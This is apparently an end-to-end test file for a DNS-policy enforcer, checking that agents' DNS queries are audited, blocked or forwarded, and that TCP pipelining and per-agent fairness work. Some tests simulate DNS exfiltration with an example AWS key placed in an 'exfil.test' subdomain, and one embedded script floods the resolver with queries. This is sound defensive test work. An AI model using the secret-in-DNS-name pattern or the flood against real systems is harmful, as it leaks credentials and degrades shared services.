//! DNS through the enforcer, end to end: tagged processes' queries over UDP and over TCP port 53 (RFC 7766) reach
//! the daemon's DNS stage whatever resolver they name, are decided per name and recorded, and are forwarded to the
//! netns responder (the daemon's `dns.upstream`) only when allowed. Real clients: glibc's stub resolver (through
//! Python's `getaddrinfo` and curl, with a private resolv.conf bind-mounted over /etc/resolv.conf), and small raw
//! clients where the wire matters (pipelined TCP queries, a query flood from one cgroup).

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use enforcer::dns::{SYNTHETIC_V4, SYNTHETIC_V6};

use crate::assert_record;
use crate::harness::{self, Curl, Env, API_HOST, DNS_ANSWER};

/// The name the netns responder answers with a CNAME chain and 40 A records (198.51.100.1–40): more than a
/// 512-byte UDP reply holds, so over UDP without EDNS it comes back truncated.
const BIG_HOST: &str = "big.e2e.test";
const BIG_A_RECORDS: u8 = 40;

/// A raw DNS query (A, RD) for argv[2] with id argv[3] to resolver argv[1] port 53, by sendto() (argv[4] = `sendto`)
/// or connect() + send(), waiting argv[5] seconds (default 10) for the reply. Prints JSON: the reply's source address
/// and port, id, rcode, answer count and the IPv4 address of the last answer when there is one; or `{"error": ...}`.
pub(crate) const DNS_CLIENT: &str = r#"
import json, socket, sys
resolver, name, qid, op = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
q = qid.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
for label in name.split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\x00\x00\x01\x00\x01"
fam = socket.AF_INET6 if ":" in resolver else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.settimeout(float(sys.argv[5]) if len(sys.argv) > 5 else 10)
try:
    if op == "connect":
        s.connect((resolver, 53))
        s.send(q)
    else:
        s.sendto(q, (resolver, 53))
    r, src = s.recvfrom(4096)
    an = int.from_bytes(r[6:8], "big")
    print(json.dumps({"src": src[0], "port": src[1], "id": int.from_bytes(r[:2], "big"), "rcode": r[3] & 15,
                      "answers": an, "ip": socket.inet_ntoa(r[-4:]) if an else None}))
except Exception as e:
    print(json.dumps({"error": repr(e)}))
"#;

/// DNS over TCP to resolver argv[1] port 53: one connection, every query of argv[2..] (`ID:NAME:QDCOUNT`, type A;
/// a QDCOUNT other than 1 makes it malformed) written at once (pipelined), then one reply read per query. Prints
/// JSON keyed by reply id: rcode, TC and the A/AAAA addresses of the answer section; `error` when it failed.
const DNS_TCP_CLIENT: &str = r#"
import json, socket, struct, sys
resolver = sys.argv[1]
def query(qid, name, qd):
    m = struct.pack(">HHHHHH", qid, 0x0100, qd, 0, 0, 0)
    for label in name.split("."):
        m += bytes([len(label)]) + label.encode()
    return m + b"\x00" + struct.pack(">HH", 1, 1)
def name_end(r, at):
    while True:
        n = r[at]
        if n == 0:
            return at + 1
        if n & 0xC0 == 0xC0:
            return at + 2
        at += 1 + n
frames = []
for spec in sys.argv[2:]:
    qid, name, qd = spec.split(":")
    frames.append(query(int(qid), name, int(qd)))
out = {}
try:
    s = socket.create_connection((resolver, 53), timeout=10)
    s.sendall(b"".join(struct.pack(">H", len(f)) + f for f in frames))
    f = s.makefile("rb")
    for _ in frames:
        r = f.read(struct.unpack(">H", f.read(2))[0])
        qid, flags, qd, an = struct.unpack(">HHHH", r[:8])
        at = 12
        for _ in range(qd):
            at = name_end(r, at) + 4
        ips = []
        for _ in range(an):
            at = name_end(r, at)
            rtype, _, _, rdlen = struct.unpack(">HHIH", r[at:at + 10])
            at += 10
            if rtype == 1:
                ips.append(socket.inet_ntop(socket.AF_INET, r[at:at + rdlen]))
            elif rtype == 28:
                ips.append(socket.inet_ntop(socket.AF_INET6, r[at:at + rdlen]))
            at += rdlen
        out[str(qid)] = {"rcode": flags & 15, "tc": bool(flags & 0x200), "ips": ips}
except Exception as e:
    out["error"] = repr(e)
print(json.dumps(out))
"#;

/// getaddrinfo(argv[1]) through glibc: the sorted addresses, or `gaierror <errno>` (-2 EAI_NONAME: the name does
/// not exist; -3 EAI_AGAIN: temporary failure).
const GETADDRINFO: &str = r#"
import socket, sys
try:
    print(" ".join(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443, 0, socket.SOCK_STREAM)})))
except socket.gaierror as e:
    print("gaierror", e.errno)
"#;

/// Queries for distinct names under `silent.e2e.test` (the responder never answers them, so each holds its place
/// upstream until `dns.timeout_ms`) to resolver argv[1], in bursts of 300 every 250 ms for argv[2] seconds; prints
/// `flooding` after the first burst.
const DNS_FLOOD: &str = r#"
import socket, sys, time
resolver, seconds = sys.argv[1], float(sys.argv[2])
s = socket.socket(socket.AF_INET6 if ":" in resolver else socket.AF_INET, socket.SOCK_DGRAM)
end, n = time.monotonic() + seconds, 0
while time.monotonic() < end:
    for _ in range(300):
        n += 1
        q = (n & 0xFFFF).to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        for label in ("f%d" % n, "silent", "e2e", "test"):
            q += bytes([len(label)]) + label.encode()
        s.sendto(q + b"\x00\x00\x01\x00\x01", (resolver, 53))
    if n == 300:
        print("flooding", flush=True)
    time.sleep(0.25)
print("sent", n, flush=True)
"#;

/// The audit records of DNS queries.
fn dns_records(env: &Env) -> Vec<serde_json::Value> {
    env.audit_records()
        .into_iter()
        .filter(|r| r["request"]["scheme"] == "dns")
        .collect()
}

/// The audit records of DNS queries for `name` (compared lower-case).
fn records_for_name(env: &Env, name: &str) -> Vec<serde_json::Value> {
    dns_records(env)
        .into_iter()
        .filter(|r| r["request"]["host"].as_str() == Some(name.to_ascii_lowercase().as_str()))
        .collect()
}

/// How many queries for `name` the netns responder received over TCP.
fn dns_tcp_count(env: &Env, name: &str) -> u64 {
    let url = format!("http://{}/_ctl/dns_count?name={name}&transport=tcp", env.v4);
    let out = env.curl_untagged(&[&url]);
    assert_eq!(out.status, 200, "dns count query failed: {out:?}");
    let v: serde_json::Value = serde_json::from_str(&out.body)
        .unwrap_or_else(|e| panic!("dns count reply {:?}: {e}", out.body));
    v["count"].as_u64().unwrap_or_default()
}

/// A private resolv.conf naming the host side of the veth (nothing listens on port 53 there: only a redirected
/// query is answered), glibc's default two attempts.
fn resolv_conf(env: &Env) -> PathBuf {
    let conf = env.dir.path().join("resolv.conf");
    std::fs::write(
        &conf,
        format!("nameserver {}\noptions attempts:2 timeout:3\n", env.host_v4),
    )
    .expect("write resolv.conf");
    conf
}

/// `enforcer exec --profile e2e -- CMD…` with `conf` as its /etc/resolv.conf.
fn tagged_with_resolv_conf(env: &Env, conf: &Path, cmd: &[&str]) -> Command {
    env.tagged_with_file(conf, "/etc/resolv.conf", cmd)
}

/// getaddrinfo(`name`) through glibc in a tagged process (see [`GETADDRINFO`]).
fn getaddrinfo(env: &Env, conf: &Path, name: &str) -> String {
    let out = tagged_with_resolv_conf(env, conf, &["python3", "-c", GETADDRINFO, name])
        .output()
        .expect("unshare runs");
    // The script's error (`gaierror -2`), without what `enforcer exec` itself says (its warnings).
    let stderr: Vec<String> = String::from_utf8_lossy(&out.stderr)
        .lines()
        .filter(|l| !l.starts_with("enforcer exec: "))
        .map(str::to_string)
        .collect();
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout).trim(),
        stderr.join("\n").trim()
    )
}

/// curl in a tagged process that resolves through glibc (no `--resolve`).
fn curl_resolving(env: &Env, conf: &Path, args: &[&str]) -> Curl {
    harness::curl_with(tagged_with_resolv_conf(env, conf, &["curl"]), args)
}

/// `CMD…` as a process of `cgroup` (a child of the profile's cgroup, so tagged, but a cgroup of its own).
fn in_cgroup(cgroup: &Path, cmd: &[&str]) -> Command {
    let mut c = Command::new("sh");
    c.args(["-c", r#"echo $$ > "$0/cgroup.procs" && exec "$@""#])
        .arg(cgroup)
        .args(cmd)
        .stdin(Stdio::null());
    c
}

/// The stand-in addresses of a synthetic answer, as getaddrinfo prints them (sorted).
fn synthetic_addresses() -> String {
    format!("{SYNTHETIC_V4} {SYNTHETIC_V6}")
}

/// DNS from a tagged process goes through the policy and the audit trail, whatever resolver address it names: an
/// allowed name resolves with the netns responder's answer (the reply reads back from the resolver it asked), a
/// name a block rule covers is answered locally with the stand-in address (the default `refused_answer:
/// synthetic`) and never reaches the responder, and every query leaves one record.
pub fn allowed_resolves_blocked_answered_locally_each_audited(env: &mut Env) {
    env.need_daemon();
    const SECRET: &str = "AKIAIOSFODNN7EXAMPLE";
    let blocked = format!("{SECRET}.exfil.test");
    let resolvers = [
        env.host_v4.clone(),
        env.host_v6.clone(),
        format!("::ffff:{}", env.host_v4),
    ];
    let mut queries = 0;
    let before_records = dns_records(env).len();
    for (i, resolver) in resolvers.iter().enumerate() {
        for op in ["sendto", "connect"] {
            let id = (1000 + 10 * i + usize::from(op == "connect")).to_string();
            let before = env.dns_count(API_HOST);
            let (code, out, err) =
                env.exec_tagged(&["python3", "-c", DNS_CLIENT, resolver, API_HOST, &id, op]);
            assert_eq!(code, 0, "{err}");
            let v: serde_json::Value = serde_json::from_str(out.trim())
                .unwrap_or_else(|e| panic!("client output {out:?}: {e}; {err}"));
            let want_src = resolver.as_str();
            assert_eq!(
                (v["src"].as_str(), v["port"].as_u64()),
                (Some(want_src), Some(53)),
                "{resolver} {op}: {v}"
            );
            assert_eq!(v["id"].to_string(), id, "{v}");
            assert_eq!(v["rcode"], 0, "{resolver} {op}: {v}");
            assert_eq!(v["ip"], DNS_ANSWER, "{resolver} {op}: {v}");
            assert_eq!(env.dns_count(API_HOST), before + 1, "{resolver} {op}");

            let (code, out, err) =
                env.exec_tagged(&["python3", "-c", DNS_CLIENT, resolver, &blocked, &id, op]);
            assert_eq!(code, 0, "{err}");
            let v: serde_json::Value = serde_json::from_str(out.trim())
                .unwrap_or_else(|e| panic!("client output {out:?}: {e}; {err}"));
            assert_eq!(
                (v["rcode"].as_u64(), v["ip"].as_str()),
                (Some(0), Some(SYNTHETIC_V4.to_string().as_str())),
                "{resolver} {op}: the stand-in address expected: {v}"
            );
            assert_eq!(v["id"].to_string(), id, "{v}");
            assert_eq!(v["src"].as_str(), Some(want_src), "{v}");
            queries += 2;
        }
    }
    assert_eq!(
        env.dns_count(&blocked),
        0,
        "a refused name reached the responder"
    );

    let recs = dns_records(env);
    assert_eq!(recs.len(), before_records + queries, "one record per query");
    let new = &recs[before_records..];
    for rec in new {
        assert!(
            !rec.to_string().contains(SECRET),
            "the key is in the trail: {rec}"
        );
        assert_eq!(rec["request"]["method"], "A", "{rec}");
        assert_eq!(rec["request"]["port"], 53, "{rec}");
        assert_eq!(rec["agent"]["profile"], harness::PROFILE, "{rec}");
        assert!(rec["agent"]["pid"].as_u64().is_some(), "{rec}");
        if rec["request"]["host"] == API_HOST {
            assert_record(rec, "allow", Some("e2e-allow-api"), "forwarded");
        } else {
            assert_record(rec, "block", Some("e2e-block-exfil"), "blocked");
            let host = rec["request"]["host"].as_str().unwrap_or_default();
            assert!(
                host.to_ascii_lowercase().ends_with(".exfil.test")
                    && host.contains("[REDACTED:aws-access-key]"),
                "{rec}"
            );
        }
    }
    // The resolver the agent named is recorded.
    let ips: Vec<&str> = new
        .iter()
        .filter_map(|r| r["request"]["ip"].as_str())
        .collect();
    for want in [env.host_v4.as_str(), env.host_v6.as_str()] {
        assert!(ips.contains(&want), "resolver {want} not in {ips:?}");
    }
    env.assert_audit_verifies();
}

/// glibc's stub resolver (what curl, Python and most agents use), pointed by a private resolv.conf at an address
/// where nothing listens: it accepts the redirected answers (it checks that a reply comes from the nameserver it
/// asked) for an allowed name, and resolves a refused one to the stand-in addresses without it reaching the
/// responder.
pub fn glibc_resolver_accepts_redirected_answers(env: &mut Env) {
    env.need_daemon();
    let conf = resolv_conf(env);
    let before = env.dns_count(API_HOST);
    assert_eq!(getaddrinfo(env, &conf, API_HOST), DNS_ANSWER);
    assert!(
        env.dns_count(API_HOST) > before,
        "the query reached the responder"
    );
    let blocked = "glibc.AKIAIOSFODNN7EXAMPLE.exfil.test";
    assert_eq!(getaddrinfo(env, &conf, blocked), synthetic_addresses());
    assert_eq!(env.dns_count(blocked), 0);
}

/// An answer too large for a UDP reply: glibc (no EDNS) gets it truncated, retries over TCP port 53 as DNS
/// requires, and that connection is served by the DNS stage (not decided as raw TCP): the whole answer arrives,
/// forwarded to the same resolver over TCP. On one TCP connection several pipelined queries are each decided and
/// recorded like a datagram (allowed forwarded, refused answered locally, malformed FORMERR), over IPv4 and IPv6.
pub fn over_tcp_large_answers_and_pipelining(env: &mut Env) {
    env.need_daemon();
    let conf = resolv_conf(env);
    let tcp_records_53 = |env: &Env| {
        env.audit_records()
            .iter()
            .filter(|r| r["request"]["scheme"] == "tcp" && r["request"]["port"] == 53)
            .count()
    };
    let want: BTreeSet<String> = (1..=BIG_A_RECORDS)
        .map(|i| format!("198.51.100.{i}"))
        .collect();

    // 1. glibc: UDP answer truncated, then the TCP retry through the DNS stage.
    let (tcp_before, recs_before, raw_tcp_before) = (
        dns_tcp_count(env, BIG_HOST),
        records_for_name(env, BIG_HOST).len(),
        tcp_records_53(env),
    );
    let out = getaddrinfo(env, &conf, BIG_HOST);
    let got: BTreeSet<String> = out.split_whitespace().map(str::to_string).collect();
    assert_eq!(got, want, "getaddrinfo({BIG_HOST}): {out}");
    assert!(
        dns_tcp_count(env, BIG_HOST) > tcp_before,
        "the query did not reach the responder over TCP"
    );
    let recs = records_for_name(env, BIG_HOST);
    assert!(
        recs.len() >= recs_before + 3,
        "A over UDP, AAAA over UDP and A over TCP each recorded: {:?}",
        &recs[recs_before..]
    );
    for rec in &recs[recs_before..] {
        assert_record(rec, "allow", None, "forwarded");
        assert_eq!(rec["request"]["ip"], env.host_v4.as_str(), "{rec}");
    }
    assert_eq!(
        tcp_records_53(env),
        raw_tcp_before,
        "DNS over TCP was decided as raw TCP"
    );

    // 2. Pipelined queries on one connection, IPv4 and IPv6.
    for (n, resolver) in [env.host_v4.clone(), env.host_v6.clone()]
        .iter()
        .enumerate()
    {
        let blocked = format!("tcp{n}.exfil.test");
        let specs = [
            format!("11:{API_HOST}:1"),
            format!("12:{BIG_HOST}:1"),
            format!("13:{blocked}:1"),
            format!("14:malformed{n}.e2e.test:2"),
        ];
        let before = (
            records_for_name(env, API_HOST).len(),
            records_for_name(env, BIG_HOST).len(),
            dns_records(env).len(),
        );
        let mut args = vec!["python3", "-c", DNS_TCP_CLIENT, resolver.as_str()];
        args.extend(specs.iter().map(String::as_str));
        let (code, out, err) = env.exec_tagged(&args);
        assert_eq!(code, 0, "{err}");
        let v: serde_json::Value = serde_json::from_str(out.trim())
            .unwrap_or_else(|e| panic!("client output {out:?}: {e}; {err}"));
        assert!(v.get("error").is_none(), "{resolver}: {v}");
        assert_eq!(v["11"]["rcode"], 0, "{v}");
        assert_eq!(v["11"]["ips"], serde_json::json!([DNS_ANSWER]), "{v}");
        let big: BTreeSet<String> = v["12"]["ips"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default();
        assert_eq!(
            (v["12"]["rcode"].as_u64(), v["12"]["tc"].as_bool(), &big),
            (Some(0), Some(false), &want),
            "{v}"
        );
        assert_eq!(
            v["13"]["ips"],
            serde_json::json!([SYNTHETIC_V4.to_string()]),
            "{v}"
        );
        assert_eq!(v["14"]["rcode"], 1, "FORMERR expected: {v}");
        assert_eq!(env.dns_count(&blocked), 0, "a refused name went upstream");
        // One record per decided query (the malformed one is answered unrecorded: nothing of it left the host).
        assert_eq!(records_for_name(env, API_HOST).len(), before.0 + 1);
        assert_eq!(records_for_name(env, BIG_HOST).len(), before.1 + 1);
        assert_eq!(dns_records(env).len(), before.2 + 3, "{resolver}");
        let rec = records_for_name(env, &blocked).pop().expect("a record");
        assert_record(&rec, "block", Some("e2e-block-exfil"), "blocked");
        assert_eq!(rec["request"]["ip"], resolver.as_str(), "{rec}");
    }
    env.assert_audit_verifies();
}

/// The e2e policy with `dns.refused_answer` set to `mode`, plus a name that only a `scheme: dns` rule refuses
/// while its requests would be allowed (so the proxy itself must refuse the stand-in address).
fn modes_policy(mode: &str) -> String {
    let base = std::fs::read_to_string(harness::repo_root().join("tests/e2e/policy.yaml"))
        .unwrap_or_else(|e| panic!("read tests/e2e/policy.yaml: {e}"));
    format!(
        "dns: {{ refused_answer: {mode} }}\n{base}\
         \x20 - id: e2e-dnsonly-http\n    when: {{ host: \"*.dnsonly.e2e.test\" }}\n    verdict: allow\n\
         \x20 - id: e2e-dnsonly-dns\n    when: {{ scheme: dns, host: \"*.dnsonly.e2e.test\" }}\n    verdict: block\n\
         \x20   message: dnsonly names do not resolve for agents\n"
    )
}

/// How a refused name is answered, per policy (`dns: { refused_answer: … }`), as glibc and curl see it:
/// - `nxdomain`: the name does not exist (EAI_NONAME): final, one query per type, no retry;
/// - `refused`: a temporary failure (EAI_AGAIN): glibc asks again (more queries recorded than for nxdomain);
/// - `synthetic` (the default): the stand-in addresses, so `curl https://name/` reaches the proxy, which refuses
///   it with the rule's message (403) and forwards nothing, also when only a `scheme: dns` rule refuses the name.
pub fn refused_answer_modes_under_glibc_and_curl(env: &mut Env) {
    env.need_daemon();
    let conf = resolv_conf(env);
    let original = env.config.clone();
    let policy = env.dir.path().join("dns-modes-policy.yaml");
    let config = env
        .config_with_policy(&policy, "enforcer-dns-modes.yaml")
        .unwrap_or_else(|e| panic!("{e}"));
    let mut queries = Vec::new();
    for (i, mode) in ["nxdomain", "refused", "synthetic"].iter().enumerate() {
        std::fs::write(&policy, modes_policy(mode)).unwrap_or_else(|e| panic!("write: {e}"));
        if i == 0 {
            env.restart_daemon(config.clone())
                .unwrap_or_else(|e| panic!("restart: {e}"));
        } else {
            let since = env.daemon_log_len();
            env.hangup_daemon().unwrap_or_else(|e| panic!("{e}"));
            env.wait_for_daemon_log(since, "policy reloaded", Duration::from_secs(20))
                .unwrap_or_else(|e| panic!("{e}"));
        }
        let name = format!("{mode}.exfil.test");
        let resolved = getaddrinfo(env, &conf, &name);
        let recs = records_for_name(env, &name);
        for rec in &recs {
            assert_record(rec, "block", Some("e2e-block-exfil"), "blocked");
        }
        queries.push(recs.len());
        let url = format!("https://{name}/refused-answer");
        let out = curl_resolving(env, &conf, &[&url]);
        match *mode {
            "nxdomain" => {
                assert_eq!(resolved, "gaierror -2", "{mode}");
                assert_eq!(recs.len(), 2, "{mode}: one A and one AAAA query, no retry");
                assert_eq!(out.code, 6, "{mode}: could not resolve: {out:?}");
            }
            "refused" => {
                assert_eq!(resolved, "gaierror -3", "{mode}");
                assert_eq!(
                    recs.len(),
                    4,
                    "{mode}: A and AAAA asked again (resolv.conf attempts:2)"
                );
                assert_eq!(out.code, 6, "{mode}: could not resolve: {out:?}");
            }
            _ => {
                assert_eq!(resolved, synthetic_addresses(), "{mode}");
                assert_eq!(recs.len(), 2, "{mode}: one A and one AAAA query, no retry");
                assert_eq!(
                    (out.code, out.status),
                    (0, 403),
                    "{mode}: the proxy answers: {out:?}"
                );
                assert!(out.body.contains("no exfiltration"), "{out:?}");
                let rec = super::records_for(env, "/refused-answer")
                    .pop()
                    .expect("the request is recorded");
                assert_record(&rec, "block", Some("e2e-block-exfil"), "blocked");
                let ip = rec["request"]["ip"].as_str().unwrap_or_default();
                assert!(
                    [SYNTHETIC_V4.to_string(), SYNTHETIC_V6.to_string()].contains(&ip.to_string()),
                    "{rec}"
                );

                // Only a `scheme: dns` rule refuses this name; its requests alone would be allowed. The proxy
                // still forwards nothing to the stand-in address and answers with the DNS rule's message.
                let url = "https://a.dnsonly.e2e.test/dnsonly";
                let out = curl_resolving(env, &conf, &[url]);
                assert_eq!((out.code, out.status), (0, 403), "{out:?}");
                assert!(
                    out.body.contains("dnsonly names do not resolve for agents"),
                    "{out:?}"
                );
                let rec = super::records_for(env, "/dnsonly")
                    .pop()
                    .expect("the request is recorded");
                assert_record(&rec, "block", Some("e2e-dnsonly-dns"), "blocked");
                assert_eq!(env.upstream_count("/dnsonly"), 0);
            }
        }
        assert_eq!(env.dns_count(&name), 0, "{mode}: the name went upstream");
        assert_eq!(env.upstream_count("/refused-answer"), 0);
    }
    // glibc retries a REFUSED answer (a temporary failure); NXDOMAIN is final.
    assert!(
        queries[1] > queries[0],
        "queries recorded (nxdomain, refused, synthetic): {queries:?}"
    );
    env.assert_audit_verifies();
    env.restart_daemon(original)
        .unwrap_or_else(|e| panic!("restart: {e}"));
}

/// One agent flooding the DNS stage with queries that hold their place until the upstream timeout does not make
/// another agent's query go unanswered: each agent (cgroup) has its own share of the queries in flight. The two
/// agents are two cgroups below the profile's (both tagged, each its own agent).
pub fn one_agent_flooding_does_not_starve_another(env: &mut Env) {
    env.need_daemon();
    let profile_cgroup = env.cgroup.join("enforcer").join(harness::PROFILE);
    let flood_cg = profile_cgroup.join("dns-flood");
    let quiet_cg = profile_cgroup.join("dns-quiet");
    for cg in [&flood_cg, &quiet_cg] {
        std::fs::create_dir_all(cg).unwrap_or_else(|e| panic!("mkdir {}: {e}", cg.display()));
    }
    let mut flood = in_cgroup(&flood_cg, &["python3", "-c", DNS_FLOOD, &env.host_v4, "6"])
        .stdout(Stdio::piped())
        .spawn()
        .expect("flood starts");
    let mut lines = BufReader::new(flood.stdout.take().expect("stdout")).lines();
    let started = lines.next().and_then(Result::ok);
    let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        assert_eq!(started.as_deref(), Some("flooding"));
        // Let the flood fill what it can (before per-agent shares: every place in flight).
        std::thread::sleep(Duration::from_millis(1000));
        for i in 0..3 {
            let id = (2000 + i).to_string();
            let (code, out, err) = run_in(
                &quiet_cg,
                &[
                    "python3",
                    "-c",
                    DNS_CLIENT,
                    &env.host_v4,
                    API_HOST,
                    &id,
                    "sendto",
                    "1",
                ],
            );
            assert_eq!(code, 0, "{err}");
            let v: serde_json::Value = serde_json::from_str(out.trim())
                .unwrap_or_else(|e| panic!("client output {out:?}: {e}; {err}"));
            assert_eq!(
                (v["rcode"].as_u64(), v["ip"].as_str()),
                (Some(0), Some(DNS_ANSWER)),
                "query {i} of the quiet agent while another floods: {v}"
            );
        }
        let quiet = records_for_name(env, API_HOST)
            .pop()
            .expect("the quiet agent's query is recorded");
        let cgroup = quiet["agent"]["cgroup"].as_str().unwrap_or_default();
        assert!(cgroup.ends_with("/dns-quiet"), "{quiet}");
    }));
    let _ = flood.kill();
    let _ = flood.wait();
    for cg in [&flood_cg, &quiet_cg] {
        let _ = std::fs::remove_dir(cg);
    }
    if let Err(panic) = result {
        std::panic::resume_unwind(panic);
    }
}

/// Run `cmd` in `cgroup` and wait: (exit code, stdout, stderr).
fn run_in(cgroup: &Path, cmd: &[&str]) -> (i32, String, String) {
    match in_cgroup(cgroup, cmd).output() {
        Ok(o) => (
            o.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&o.stdout).into_owned(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        ),
        Err(e) => (-1, String::new(), e.to_string()),
    }
}
